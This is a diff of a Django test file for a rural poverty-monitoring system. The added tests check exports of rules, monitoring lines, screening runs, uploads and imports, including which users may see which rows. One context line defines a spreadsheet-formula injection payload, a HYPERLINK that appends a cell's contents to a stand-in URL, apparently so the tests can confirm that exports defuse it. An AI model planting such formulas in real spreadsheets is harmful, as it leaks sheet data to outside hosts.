@@ -16,11 +16,21 @@ from django.utils import timezone
 
 from bangfu.audit.models import RevealRecord
 from bangfu.cases.services import case_open
+from bangfu.ingest.models import ImportRun
 from bangfu.jobs.models import Job
-from bangfu.monitoring.models import Lead, RiskWarning, Rule
+from bangfu.monitoring.models import FeedUpload, Lead, MonitoringLine, RiskWarning, Rule, ScreeningRun
 from bangfu.monitoring.services import lead_self_report
+from bangfu.regions.models import Region
 from bangfu.web.exports import LIST_EXPORTS, list_export_get, list_export_write
-from tests.conftest import TUANJIE, ZHANGZHA_VILLAGE, synthetic_id
+from tests.conftest import (
+    COUNTY,
+    SHUANGHE,
+    TUANJIE,
+    ZHANGZHA_TOWN,
+    ZHANGZHA_VILLAGE,
+    make_user,
+    synthetic_id,
+)
 
 FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点击")'
 
@@ -173,7 +183,7 @@ def test_who_may_not_export_gets_nothing(client, regions, world, django_capture_
 def test_every_list_export_is_tested_here():
     list_export_get("warnings")  # discovers them all
     tested = {"warnings", "leads", "cases", "audit-changes", "audit-reveals", "audit-security", "users", "jobs",
-              "monitored"}
+              "monitored", "rules", "monitoring-lines", "screening-runs", "feed-uploads", "imports"}
     # tests/assistance/test_exports_and_config.py: the assistance ledgers, cadres and findings
     assistance = {key for key in LIST_EXPORTS if key.startswith("ledger-")} | {"cadres", "findings", "tasks"}
     assert set(LIST_EXPORTS) - assistance <= tested
@@ -211,3 +221,125 @@ def test_an_id_number_typed_into_a_filter_is_not_stored_in_clear(client, county_
     assert "cipher" in job.params["data"]["q"]
     assert number not in rows[1][0]
     assert re.search("＊1[78]位数字＊", rows[1][0])  # the filter row says a number was searched (an X not counted)
+
+
+def _column(rows, title: str) -> list:
+    return [row[rows[3].index(title)] for row in rows[4:]]
+
+
+def test_the_rules_export_with_their_thresholds(client, tuanjie_cadre, regions, django_capture_on_commit_callbacks):
+    client.force_login(tuanjie_cadre)
+    assert reverse("web:list_export", args=["rules"]) in client.get(reverse("monitoring:rule_list")).content.decode()
+    rows, _sheet = _export(client, "rules", {}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "预警规则", "全部", "tuanjie_cadre")
+    assert _column(rows, "规则代码") == list(Rule.objects.values_list("code", flat=True))  # the page's order
+    rule = Rule.objects.get(code="medical_stay_oop")
+    line = rows[4 + _column(rows, "规则代码").index(rule.code)]
+    assert rule.params and all(f"{key}={value}" in line[rows[3].index("参数")] for key, value in rule.params.items())
+    assert line[rows[3].index("核实时限（天）")] == rule.verify_days
+    assert line[rows[3].index("启用")] == ("是" if rule.enabled else "否")
+    exclusion = Rule.objects.filter(is_exclusion=True).first()
+    assert rows[4 + _column(rows, "规则代码").index(exclusion.code)][rows[3].index("核实时限（天）")] is None
+    assert not Job.objects.exists()  # no personal data, a small list: at once
+
+
+def test_monitoring_lines_export_what_is_in_force_where_the_exporter_sits(client, tuanjie_cadre, regions,
+                                                                          django_capture_on_commit_callbacks):
+    from decimal import Decimal
+
+    wenchuan = Region.objects.create(code="513221000000", name="汶川县", level=Region.Level.COUNTY,
+                                     parent_id="513200000000")
+    MonitoringLine.objects.create(region_id="510000000000", year=2026, amount=Decimal("7800"), source="省文件")
+    MonitoringLine.objects.create(region_id="513200000000", year=2026, amount=Decimal("7950"), source="州文件")
+    MonitoringLine.objects.create(region_id=COUNTY, year=2025, amount=Decimal("8100"), source="县文件")
+    MonitoringLine.objects.create(region=wenchuan, year=2025, amount=Decimal("9000"), source="汶川文件")
+    client.force_login(tuanjie_cadre)
+    assert reverse("web:list_export", args=["monitoring-lines"]) in client.get(reverse("monitoring:lines")).content.decode()
+    rows, _sheet = _export(client, "monitoring-lines", {}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "监测范围", "全部", "tuanjie_cadre")
+    assert rows[3] == ["年度", "执行数值（元）", "来源", "省定（元）", "州（市）定（元）", "本县设定（元）", "依据文件"]
+    assert rows[4:] == [[2026, 7950, "州（市）定", 7800, 7950, None, "州文件"],
+                        [2025, 8100, "县设定", None, None, 8100, "县文件"]]  # not 汶川县's line
+    client.force_login(make_user("wenchuan_admin", "county_admin", wenchuan.code))
+    rows, _sheet = _export(client, "monitoring-lines", {}, django_capture_on_commit_callbacks)
+    assert [row[:3] for row in rows[4:]] == [[2026, 7950, "州（市）定"], [2025, 9000, "县设定"]]
+    client.force_login(make_user("nowhere", "department_operator"))  # the page needs a region, so does the file
+    assert client.post(reverse("web:list_export", args=["monitoring-lines"]), {}).status_code == 403
+
+
+def _screening_run(rule: Rule, started_by=None) -> ScreeningRun:
+    return ScreeningRun.objects.create(
+        started_by=started_by, status=ScreeningRun.Status.DONE, seconds=1.5, created=3, updated=1,
+        inputs={"households": 40, "members": 120, "feed": 7}, counts_by_rule={rule.code: 3},
+        counts_by_township={SHUANGHE: 2, ZHANGZHA_TOWN: 1})
+
+
+def test_screening_runs_count_townships_only_within_the_readers_jurisdiction(
+        client, county_admin, shuanghe_reviewer, tuanjie_cadre, leader, django_capture_on_commit_callbacks):
+    rule = Rule.objects.get(code="medical_stay_oop")
+    _screening_run(rule, started_by=county_admin)
+    shuanghe, zhangzha = (Region.objects.get(code=code).name for code in (SHUANGHE, ZHANGZHA_TOWN))
+    client.force_login(shuanghe_reviewer)
+    assert reverse("web:list_export", args=["screening-runs"]) in client.get(
+        reverse("monitoring:screening_list")).content.decode()
+    rows, _sheet = _export(client, "screening-runs", {}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "筛查记录", "全部", "shuanghe_reviewer")
+    assert _column(rows, "按规则命中") == [f"{rule.name} 3"] and _column(rows, "发起人") == ["county_admin"]
+    assert (_column(rows, "读取农户"), _column(rows, "新预警")) == ([40], [3])
+    assert _column(rows, "按乡镇命中") == [f"{shuanghe} 2"]  # not 漳扎镇's count
+    client.force_login(tuanjie_cadre)  # a village sees no township's count, as on the page
+    rows, _sheet = _export(client, "screening-runs", {}, django_capture_on_commit_callbacks)
+    assert _column(rows, "按乡镇命中") == [None]
+    client.force_login(county_admin)
+    rows, _sheet = _export(client, "screening-runs", {}, django_capture_on_commit_callbacks)
+    assert _column(rows, "按乡镇命中") == [f"{shuanghe} 2；{zhangzha} 1"]
+    client.force_login(leader)  # the page is for who screens or verifies: so is the file
+    assert client.get(reverse("monitoring:screening_list")).status_code == 403
+    assert client.post(reverse("web:list_export", args=["screening-runs"]), {}).status_code == 403
+
+    def queries() -> int:
+        with CaptureQueriesContext(connection) as captured:
+            list_export_write(io.BytesIO(), list_export_get("screening-runs"), actor=shuanghe_reviewer, data={},
+                              full=False)
+        return len(captured.captured_queries)
+
+    few = queries()
+    for _i in range(5):
+        _screening_run(rule)
+    assert queries() == few
+
+
+def test_feed_uploads_export_the_whole_history_to_who_may_upload(client, tuanjie_cadre, regions,
+                                                                 django_capture_on_commit_callbacks):
+    operator = make_user("yibao", "department_operator", COUNTY)
+    FeedUpload.objects.bulk_create(FeedUpload(kind="medical", period=f"2024-{1 + i % 12:02d}", file_name=f"医保{i}.xlsx",
+                                              uploaded_by=operator, rows=10, matched=8, unmatched=1, invalid=1)
+                                   for i in range(31))
+    client.force_login(operator)
+    assert reverse("web:list_export", args=["feed-uploads"]) in client.get(
+        reverse("monitoring:feed_upload")).content.decode()
+    rows, _sheet = _export(client, "feed-uploads", {}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "部门数据上传记录", "全部", "yibao")
+    assert len(rows[4:]) == 31  # every upload, not only the 30 the page lists
+    assert rows[4][1:] == ["yibao", "医保住院结算", "2024-07", "医保30.xlsx", 10, 8, 1, 1]  # newest first
+    client.force_login(tuanjie_cadre)
+    assert client.post(reverse("web:list_export", args=["feed-uploads"]), {}).status_code == 403
+
+
+def test_imports_are_only_the_importers_own(client, tuanjie_cadre, zhangzha_cadre, leader,
+                                            django_capture_on_commit_callbacks):
+    report = {"counts": {"households_new": 3, "households_changed": 1, "households_rejected": 1, "members_new": 9,
+                         "rows_with_errors": 2}, "year": 2025,
+              "committed": {"households_created": 3, "households_updated": 1, "members_created": 9}}
+    ImportRun.objects.create(kind="households", file_name="团结村台账.xlsx", file_path="/nonexistent/a.xlsx",
+                             requested_by=tuanjie_cadre, status=ImportRun.Status.COMMITTED, report=report)
+    ImportRun.objects.create(kind="households", file_name="漳扎村台账.xlsx", file_path="/nonexistent/b.xlsx",
+                             requested_by=zhangzha_cadre)
+    client.force_login(tuanjie_cadre)
+    assert reverse("web:list_export", args=["imports"]) in client.get(reverse("ingest:import_start")).content.decode()
+    rows, _sheet = _export(client, "imports", {}, django_capture_on_commit_callbacks)
+    _check_heading(rows, "我的导入", "全部", "tuanjie_cadre")
+    assert _column(rows, "文件名") == ["团结村台账.xlsx"]  # not 漳扎's file
+    assert rows[4][2:] == ["已导入", 2025, 3, 1, 1, 9, 2, 3, 1, 9]
+    client.force_login(leader)
+    assert client.post(reverse("web:list_export", args=["imports"]), {}).status_code == 403
